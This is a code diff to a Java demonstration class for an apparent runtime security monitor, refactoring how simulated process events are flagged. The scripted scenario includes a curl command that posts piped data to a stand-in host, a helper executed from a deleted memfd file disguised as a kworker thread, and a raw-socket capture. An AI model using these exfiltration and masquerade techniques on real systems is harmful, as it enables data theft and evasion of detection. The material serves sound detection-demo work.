@@ -130,15 +130,9 @@ final class Demonstration {
         "curl tried to reach telemetry-cdn.example:443 (203.0.113.66), which no entry allows",
         "curl -s --data-binary @- https://telemetry-cdn.example/collect");
     story.exit(curl, 31, 7).exit(stealer, 1, 7);
+    story.remarkable(
+        "sallyport.process.executable.memfd", true, "sallyport.process.executable.deleted", true);
     ProcessNode helper = story.exec(post, "/memfd:kworker (deleted)", "[kworker/u8:2]");
-    story.send(
-        "process",
-        helper,
-        "sallyport.process.exec",
-        "sallyport.process.executable.memfd",
-        true,
-        "sallyport.process.executable.deleted",
-        true);
     story.finds(
         helper,
         Severity.WARN,
@@ -156,17 +150,11 @@ final class Demonstration {
         "sallyport.socket.protocol",
         "ETH_P_ALL");
     story.killed(helper, 90, 9).exit(post, 5, 0).exit(script, 1, 0);
+    story.remarkable(
+        "sallyport.process.user.id.before", 1001, "sallyport.process.privileged_exec", true);
     ProcessNode sudo =
         story.execAs(
             0, story.fork(shell), "/usr/bin/sudo", "sudo", "apt-get", "install", "-y", "jq");
-    story.send(
-        "process",
-        sudo,
-        "sallyport.process.exec",
-        "sallyport.process.user.id.before",
-        1001,
-        "sallyport.process.privileged_exec",
-        true);
     ProcessNode apt =
         story.execAs(0, story.fork(sudo), "/usr/bin/apt-get", "apt-get", "install", "-y", "jq");
     story.asks(apt, "azure.archive.ubuntu.com", "A", "20.106.104.242");
